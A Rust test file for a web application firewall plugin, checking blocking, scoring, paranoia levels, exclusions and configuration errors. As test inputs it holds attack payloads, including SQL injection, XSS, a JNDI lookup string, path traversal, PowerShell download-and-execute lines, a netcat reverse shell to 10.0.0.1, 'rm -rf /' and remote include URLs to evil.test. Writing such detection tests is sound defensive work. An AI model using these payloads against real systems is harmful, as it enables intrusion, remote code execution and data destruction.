//! The plugin through the SDK's native harness: decisions, scoring,
//! modes, custom rules, exclusions, configuration errors, metrics.

use wasmgress_sdk::{Decision, testing};

use crate::Waf;

fn waf(config: &str) -> Waf {
    testing::configure(config).unwrap_or_else(|e| panic!("{e}"))
}

/// A multipart upload of one file named `file_name`.
fn upload(file_name: &str) -> wasmgress_sdk::Request {
    let body =
        format!("--B\r\nContent-Disposition: form-data; name=\"f\"; filename=\"{file_name}\"\r\n\r\nx\r\n--B--\r\n");
    testing::post("/up", body).header("content-type", "multipart/form-data; boundary=B").build()
}

/// `v` with every byte but letters and digits written `%XX`.
fn percent_encoded(v: &str) -> String {
    v.bytes().map(|b| if b.is_ascii_alphanumeric() { char::from(b).to_string() } else { format!("%{b:02X}") }).collect()
}

fn blocked(waf: &Waf, request: wasmgress_sdk::Request) -> bool {
    matches!(testing::request(waf, request).0, Decision::Respond(r) if r.status == 403)
}

#[test]
fn blocks_attacks_and_passes_ordinary_requests() {
    let w = waf("");
    assert!(blocked(&w, testing::get("/search?q=1%27%20or%20%271%27%3D%271").build()));
    assert!(blocked(&w, testing::get("/?file=../../etc/passwd").build()));
    assert!(blocked(&w, testing::get("/?x=%3Cscript%3Ealert(1)%3C/script%3E").build()));
    assert!(blocked(&w, testing::get("/").header("user-agent", "${jndi:ldap://x/a}").build()));
    assert!(!blocked(&w, testing::get("/search?q=O%27Brien&sort=price&page=2").build()));
    // A name with spaces in it is not the SAM file once spaces are removed.
    assert!(!blocked(&w, testing::get("/form?first=Sam%20&last=S%20a%20m").build()));
    // Prose about Java is not Java: with spaces removed it still reads "classloader".
    assert!(!blocked(&w, testing::get("/search?q=the+java+class+loader.+explained").build()));
    assert!(blocked(&w, testing::get("/?x=Thread.currentThread().getContextClassLoader().loadClass(%22x%22)").build()));
    assert!(!blocked(
        &w,
        testing::post("/api/users", r#"{"name":"Select Union Ltd","bio":"<p>I <b>love</b> scripts</p>"}"#)
            .header("content-type", "application/json")
            .build()
    ));
}

#[test]
fn block_page_carries_the_request_id_and_not_the_payload() {
    let w = waf("");
    let (d, _) = testing::request(&w, testing::get("/?q=%3Cscript%3Ealert(1)%3C/script%3E").id("abc-123").build());
    let Decision::Respond(r) = d else { panic!("not blocked") };
    let body = String::from_utf8(r.body).unwrap();
    assert!(body.contains("abc-123"), "{body}");
    assert!(!body.contains("script") && !body.contains("alert"), "{body}");
}

#[test]
fn detect_mode_only_counts() {
    let w = waf(r#"{"mode":"detect"}"#);
    assert_eq!(testing::request(&w, testing::get("/?q=1%20union%20select%201,2").build()).0, Decision::Continue);
    assert_eq!(testing::metric("waf_requests_detected"), Some(1));
    assert_eq!(testing::metric("waf_rule_942100_matches"), Some(1));
    assert_eq!(testing::metric("waf_requests_blocked"), Some(0));
}

#[test]
fn a_custom_rule_sees_empty_values() {
    let w = waf(
        r#"{"rules": [{"id": 100001, "message": "x must not be empty", "targets": ["args:x"], "operator": {"equals": ""}}]}"#,
    );
    assert!(blocked(&w, testing::get("/?x=").build()));
    assert!(!blocked(&w, testing::get("/?x=1").build()));
}

#[test]
fn threshold_sums_severities() {
    // A warning (3) alone passes at 5; two rules together block.
    let w = waf(r#"{"anomaly_threshold": 6, "rules": [
        {"id": 100001, "message": "odd", "targets": ["args:a"], "operator": {"equals": "x"}, "severity": "warning"},
        {"id": 100002, "message": "odd too", "targets": ["args:b"], "operator": {"equals": "y"}, "severity": "warning"}]}"#);
    assert!(!blocked(&w, testing::get("/?a=x").build()));
    assert!(blocked(&w, testing::get("/?a=x&b=y").build()));
}

#[test]
fn custom_rules_with_each_operator() {
    let w = waf(r#"{"rules": [
        {"id": 100010, "message": "internal tool", "targets": ["headers:user-agent"], "transforms": ["lowercase"], "operator": {"contains": "internal-scan"}},
        {"id": 100011, "message": "order id", "targets": ["args:order"], "operator": {"regex": "^[0-9]+[a-z]$"}},
        {"id": 100012, "message": "too many", "targets": ["args:count"], "operator": {"gt": 100}},
        {"id": 100013, "message": "bad words", "targets": ["args"], "transforms": ["url_decode", "lowercase"], "operator": {"phrases": ["forbidden", "verboten"]}}]}"#);
    assert!(blocked(&w, testing::get("/").header("user-agent", "Internal-Scanner/1").build()));
    assert!(blocked(&w, testing::get("/?order=12a").build()));
    assert!(!blocked(&w, testing::get("/?order=12").build()));
    assert!(blocked(&w, testing::get("/?count=101").build()));
    assert!(!blocked(&w, testing::get("/?count=100").build()));
    assert!(blocked(&w, testing::get("/?note=VERBOTEN").build()));
}

#[test]
fn exclusions_by_rule_path_and_argument() {
    let attack = "/search?q=1%27%20or%20%271%27%3D%271";
    let w = waf(r#"{"exclusions": [{"rule": 942100, "path_prefix": "/search", "arg": "q"}]}"#);
    assert!(!blocked(&w, testing::get(attack).build()));
    assert!(blocked(&w, testing::get("/other?q=1%27%20or%20%271%27%3D%271").build()));
    assert!(blocked(&w, testing::get("/search?r=1%27%20or%20%271%27%3D%271").build()));
    let all = waf(r#"{"exclusions": [{"arg": "q"}]}"#);
    assert!(!blocked(&all, testing::get("/?q=%3Cscript%3E").build()));
}

#[test]
fn protocol_checks() {
    let w = waf("");
    assert!(blocked(&w, testing::builder("TRACE", "/").build()));
    assert!(blocked(&w, testing::post("/", "{\"a\":").header("content-type", "application/json").build()));
    assert!(blocked(&w, testing::get("/?a=x%00y").build()));
    let trace_ok = waf(r#"{"allowed_methods": ["GET", "TRACE"]}"#);
    assert!(!blocked(&trace_ok, testing::builder("TRACE", "/").build()));
    // A Host that is an address (a warning) and an empty User-Agent (a
    // notice) block only together.
    let by_address = || testing::get("/").host("192.0.2.7");
    assert!(!blocked(&w, by_address().header("user-agent", "curl/8.5.0").build()));
    assert!(!blocked(&w, testing::get("/").header("user-agent", "").build()));
    assert!(blocked(&w, by_address().header("user-agent", "").build()));
    assert_eq!(testing::metric("waf_rule_920350_matches"), Some(2));
}

#[test]
fn protocol_findings_follow_exclusions() {
    let webdav = || testing::get("/dav/report").header("lock-token", "<opaquelocktoken:1>").build();
    assert!(blocked(&waf(""), webdav()));
    assert!(!blocked(&waf(r#"{"exclusions": [{"rule": 920450, "path_prefix": "/dav"}]}"#), webdav()));
    // For a header finding, the argument named is the header.
    assert!(!blocked(&waf(r#"{"exclusions": [{"rule": 920450, "arg": "Lock-Token"}]}"#), webdav()));
    assert!(blocked(&waf(r#"{"exclusions": [{"rule": 920450, "arg": "other"}]}"#), webdav()));
    let json = || testing::post("/hook", "{\"a\":").header("content-type", "application/json").build();
    assert!(!blocked(&waf(r#"{"exclusions": [{"rule": 920130, "path_prefix": "/hook"}]}"#), json()));
    // A NUL is a pattern rule's finding, excluded the same way.
    let nul = "/upload?blob=x%00y";
    assert!(blocked(&waf(""), testing::get(nul).build()));
    assert!(!blocked(&waf(r#"{"exclusions": [{"rule": 920270, "arg": "blob"}]}"#), testing::get(nul).build()));
    assert!(blocked(&waf(""), testing::get("/").header("referer", "https://example.test/%00").build()));
}

#[test]
fn session_ids_planted_through_arguments() {
    let w = waf("");
    let login = "/login.php?jsessionid=74B0CB414BD77D17B5680A6386EF1666";
    let from = |referer: &str| testing::get(login).host("shop.example").header("referer", referer).build();
    assert!(blocked(&w, from("http://attacker.test/page")));
    assert!(blocked(&w, testing::get(login).host("shop.example").build()), "no Referer");
    assert!(!blocked(&w, from("https://shop.example/cart")));
    assert!(!blocked(&w, testing::get("/login.php?session=1").host("shop.example").build()));
    // In a form body too.
    let form = testing::post("/login", "user=ann&PHPSESSID=abc")
        .host("shop.example")
        .header("content-type", "application/x-www-form-urlencoded")
        .build();
    assert!(blocked(&w, form));
    // An API client's JSON: no Referer, and no link or form could send it.
    let api = testing::post("/api/chat", r#"{"session_id":"abc","text":"hi"}"#)
        .host("shop.example")
        .header("content-type", "application/json")
        .build();
    assert!(!blocked(&w, api));
    assert_eq!(testing::metric("waf_rule_943110_matches"), Some(1));
    assert_eq!(testing::metric("waf_rule_943120_matches"), Some(2));
    // An excluded argument does not hide another one.
    let excluded = waf(r#"{"exclusions": [{"rule": 943120, "arg": "sessionid"}]}"#);
    assert!(!blocked(&excluded, testing::get("/app?sessionid=1").host("shop.example").build()));
    assert!(blocked(&excluded, testing::get("/app?sessionid=1&cfid=2").host("shop.example").build()));
    // A value that sets a cookie from a page.
    assert!(blocked(
        &w,
        testing::get("/?x=%3Cmeta%20http-equiv%3D%22Set-Cookie%22%20content%3D%22sid%3D1%22%3E").build()
    ));
    assert!(blocked(&w, testing::get("/?x=document.cookie%3D%22sid%3D1%3B%20domain%3D.shop.example%22").build()));
    assert!(!blocked(&w, testing::get("/search?q=how+do+cookies+expire").build()));
}

#[test]
fn urls_to_other_hosts_from_paranoia_2() {
    let include = || testing::get("/page.php?file=http%3A%2F%2Fevil.test%2Fshell.txt").host("shop.example").build();
    assert!(!blocked(&waf(""), include()));
    let pl2 = waf(r#"{"paranoia_level": 2}"#);
    assert!(blocked(&pl2, include()));
    let own = testing::get("/login?next=https%3A%2F%2Fshop.example%2Fcart").host("shop.example").build();
    assert!(!blocked(&pl2, own));
    // An API's document names other sites as a matter of course.
    let event = testing::post("/collect", r#"{"url":"https://elsewhere.test/p/1"}"#)
        .host("shop.example")
        .header("content-type", "application/json")
        .build();
    assert!(!blocked(&pl2, event));
    let webhook = r#"{"paranoia_level": 2, "exclusions": [{"rule": 931130, "arg": "file"}]}"#;
    assert!(!blocked(&waf(webhook), include()));
    // An excluded argument does not hide another one.
    let two =
        testing::get("/p?file=http%3A%2F%2Fhooks.test%2F&src=ftp%3A%2F%2Fevil.test%2Fx").host("shop.example").build();
    assert!(blocked(&waf(webhook), two));
}

#[test]
fn bodies_of_every_kind_are_inspected() {
    let w = waf("");
    let form = testing::post("/", "comment=%27%3B%20DROP%20TABLE%20users%3B--")
        .header("content-type", "application/x-www-form-urlencoded")
        .build();
    assert!(blocked(&w, form));
    let json = testing::post("/", r#"{"a":{"b":["x","<svg onload=alert(1)>"]}}"#)
        .header("content-type", "application/json")
        .build();
    assert!(blocked(&w, json));
    assert!(blocked(&w, upload("shell.php")));
    let xml = r#"<a x="&lt;script&gt;alert(1)&lt;/script&gt;"/>"#;
    assert!(blocked(&w, testing::post("/", xml).header("content-type", "application/xml").build()));
}

#[test]
fn oversize_requests_are_blocked_or_passed_as_configured() {
    let padded = format!("a={}&q=1%27%20or%20%271%27%3D%271", "x".repeat(20 << 10));
    let form = |body: &str| {
        testing::post("/", body.to_string()).header("content-type", "application/x-www-form-urlencoded").build()
    };
    assert!(blocked(&waf(""), form(&padded)), "past the limit: blocked by default");
    let pass = waf(r#"{"oversize": "pass"}"#);
    assert!(!blocked(&pass, form(&padded)), "past the limit and told to pass: the attack is not reached");
    assert!(blocked(&pass, form("q=1%27%20or%20%271%27%3D%271")));
    let many: String = (0..600).map(|i| format!("k{i}=v&")).collect();
    assert!(blocked(&waf(""), form(&many)));
    assert!(!blocked(&waf(r#"{"max_fields": 5000}"#), form(&many)));
    let json = |body: String| testing::post("/", body).header("content-type", "application/json").build();
    let records = format!("[{}]", vec![r#"{"sku":"A-1","qty":2}"#; 300].join(","));
    assert!(blocked(&waf(""), json(records.clone())), "more keys and values than max_fields");
    assert!(!blocked(&waf(r#"{"max_fields": 5000, "max_inspect_bytes": 1000000}"#), json(records)));
}

/// Attacks of kinds the CRS regression corpus the project measures with
/// does not hold, written here: detection has to reach past the cases it
/// was tuned on.
#[test]
fn attacks_beyond_the_measured_corpus() {
    let w = waf("");
    let enc = percent_encoded;
    for attack in [
        "WEB-INF/web.xml",
        ".git/config",
        "/var/log/nginx/access.log",
        "http://192.168.7.10/shell.txt",
        "powershell.exe -nop -w hidden -c x",
        "; Invoke-WebRequest -Uri http://x/a -OutFile a.exe",
        "(New-Object Net.WebClient).DownloadString('http://x/a')",
        "; iwr http://x/a | iex",
        "& reg query HKLM\\Software",
        "{,ifconfig}",
        ";{ls,-la}",
        "zip://uploads/a.zip#shell.php",
        "x.parentNode.removeChild(x)",
        "<v:vmlframe src=x>",
        "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]]",
        "alert`1`",
        "throw onerror=alert,1",
        "[1].map(alert)",
        "-1 or 2>1",
        "select * from pg_catalog.pg_tables",
        "1 and database()=1",
        "4294967295",
        "1e309",
        "alter database x character set utf8",
        "admin';",
        "for(;;){}",
        "while(true);",
        "global.process.kill(1)",
        "foo!ENTITY % bar SYSTEM",
    ] {
        assert!(blocked(&w, testing::get(&format!("/?x={}", enc(attack))).build()), "{attack}");
    }
    for name in [".user.ini", "web.config", "shell.jsp", "a.jspx"] {
        assert!(blocked(&w, upload(name)), "{name}");
    }
    // Their near misses pass.
    for text in [
        "friends{name,id},photos{id,link}",
        "*.{jpg,png}",
        "2147483647",
        "database (mysql) vs postgres",
        "how to alter a dress with a character of its own",
        "powershell get-help examples",
        "Rock 'n' Roll; the best of 1969",
        "regedit reg query tutorial",
        "(1 + 2) * [3]",
        "-1 or more",
        "Use `print` to debug; `eval` is evil",
        "the set {1,2,3} and {red,green}",
        "fields={id,name}",
        "how to kill a process in linux",
    ] {
        assert!(!blocked(&w, testing::get(&format!("/?x={}", enc(text))).build()), "{text}");
    }
    assert!(!blocked(&w, upload("report.jsp.pdf")));
}

/// A value of letters and digits alone skips most rules; the ones written
/// for such tokens still see it.
#[test]
fn plain_tokens_reach_their_rules() {
    let form = |body: &str| {
        testing::post("/post", body.to_string()).header("content-type", "application/x-www-form-urlencoded").build()
    };
    assert!(blocked(&waf(""), form("test=rO0ABQ")), "Java serialization magic, base64");
    assert!(blocked(&waf(""), form("test=KztAAU")), "the same, at another alignment");
    assert!(blocked(&waf(""), form("id=4294967295")));
    let pl2 = waf(r#"{"paranoia_level": 2}"#);
    assert!(blocked(&pl2, form("pay=nvarchar")));
    assert!(!blocked(&waf(""), form("pay=nvarchar")), "a level-2 rule");
    assert!(blocked(&pl2, form("date(")));
    assert!(blocked(&pl2, form("q=java.evil.runtime")));
    for (attack, prose) in [
        ("1 regexp 1", "a regexp tutorial"),
        ("x' rlike 'y", "javascript rlike"),
        ("' sounds like '", "it sounds like a plan"),
    ] {
        assert!(blocked(&pl2, form(&format!("q={}", attack.replace(' ', "+")))), "{attack}");
        assert!(!blocked(&pl2, form(&format!("q={}", prose.replace(' ', "+")))), "{prose}");
    }
    assert!(!blocked(&pl2, form("q=r0OABQ&page=2&code=ACED")));
}

#[test]
fn paranoia_levels_add_rules() {
    let level = |n: u8| waf(&format!(r#"{{"paranoia_level": {n}}}"#));
    let (pl1, pl2, pl3, pl4) = (level(1), level(2), level(3), level(4));
    let get = |url: &str| testing::get(url).build();
    let url = "/?next=https://elsewhere.example/page";
    assert!(!blocked(&pl1, get(url)));
    assert!(blocked(&pl2, get(url)));
    // Level 3: a leftover `%`, a byte that is not UTF-8, a typographic
    // quote; letters of any language still pass.
    for url in ["/?q=50%25+off", "/?q=t%FFest", "/?q=it%E2%80%99s"] {
        assert!(!blocked(&pl2, get(url)), "{url}");
        assert!(blocked(&pl3, get(url)), "{url}");
    }
    assert!(!blocked(&pl3, get("/?city=Saint-%C3%89tienne&name=M%C3%BCller")));
    // Django ORM lookups in names, shell wildcards in a path, a quote then
    // arithmetic; a lookup-like name with one underscore, a wildcard past
    // the first directory and a quoted phrase pass.
    for url in
        ["/?password__isnull=true", "/?user__username__startswith=a", "/?x=/%3F%3F%3F/b%3F%3Fh", "/?x=%222562*23"]
    {
        assert!(!blocked(&pl2, get(url)), "{url}");
        assert!(blocked(&pl3, get(url)), "{url}");
    }
    for url in ["/?price_gte=10", "/?glob=/images/*.jpg", "/?q=%22hello%22+world"] {
        assert!(!blocked(&pl3, get(url)), "{url}");
    }
    // SQL's characters, counted: 12 score a warning from level 2, 6 a
    // second one from level 3, which together block.
    let dashes = "/?var=-------------------";
    assert!(!blocked(&pl2, get(dashes)));
    assert!(blocked(&pl3, get(dashes)));
    // Level 4: only letters, digits and `& , - . / : = _` in arguments.
    assert!(!blocked(&pl3, get("/?q=a+b")));
    assert!(blocked(&pl4, get("/?q=a+b")));
    assert!(!blocked(&pl4, get("/?from=2026-11-27&ids=1,2,3&path=/a/b")));
    assert!(!blocked(&pl2, upload("shell.php.jpg")));
    assert!(blocked(&pl3, upload("shell.php.jpg")));
}

/// Level 2's SQL, shell and PHP shapes, each with prose or code that
/// looks like it and passes.
#[test]
fn level_two_shapes() {
    let (pl1, pl2) = (waf(r#"{"paranoia_level": 1}"#), waf(r#"{"paranoia_level": 2}"#));
    let arg = |v: &str| testing::get(&format!("/?x={}", percent_encoded(v))).build();
    for a in [
        "AND backend_layout!=",
        "||(null!=",
        "&&(a=\"",
        "div role=\"",
        "/3 and(",
        ";SET @OLD_SQL_MODE",
        "4oR2-",
        "--alter",
        "1=1",
        "42 like 42",
        "1 is not 2",
        "\"'",
        "admin@x.test' or glob (id,id);",
        "ansible all -m ping",
        ";\n.shell nc 10.0.0.1 6666 -e sh",
        "ifconfig;. rm -rf /",
        "\r\na001 login bob secret\r\n",
        "array_diff (",
        "tidy_parse_string()",
    ] {
        assert!(blocked(&pl2, arg(a)), "{a}");
    }
    assert!(blocked(&pl1, arg("Xunionselectfrom")));
    for t in [
        "<div id=\"main\">hello</div>",
        "Experience with C and C++ (required)",
        "for x = (1, 2)",
        "1+1=2",
        "version 1 is not 2",
        "python tutorial for beginners -- part 2",
        "Line one\r\nstep 1 select your size",
        "please select 1 option; updated daily",
        "my_function(x)",
        "5 feet",
    ] {
        assert!(!blocked(&pl2, arg(t)), "{t}");
    }
}

#[test]
fn bad_configurations_name_the_field() {
    let err = |c: &str| testing::configure::<Waf>(c).err().unwrap_or_default();
    assert!(err(r#"{"paranoia_level": 5}"#).contains("paranoia_level"));
    assert!(err(r#"{"mode": "maybe"}"#).contains("unknown variant `maybe`"));
    assert!(
        err(r#"{"rules": [{"id": 1, "message": "m", "targets": ["args"], "operator": {"regex": "("}}]}"#)
            .contains("rules[0] (id 1): operator.regex")
    );
    assert!(
        err(r#"{"rules": [{"id": 1, "message": "m", "targets": ["body"], "operator": {"contains": "x"}}]}"#)
            .contains("unknown target")
    );
    assert!(
        err(r#"{"rules": [{"id": 942100, "message": "m", "targets": ["args"], "operator": {"contains": "x"}}]}"#)
            .contains("already taken")
    );
    assert!(err(r#"{"exclusions": [{}]}"#).contains("exclusions[0]"));
    assert!(err(r#"{"colour": 1}"#).contains("colour"));
}
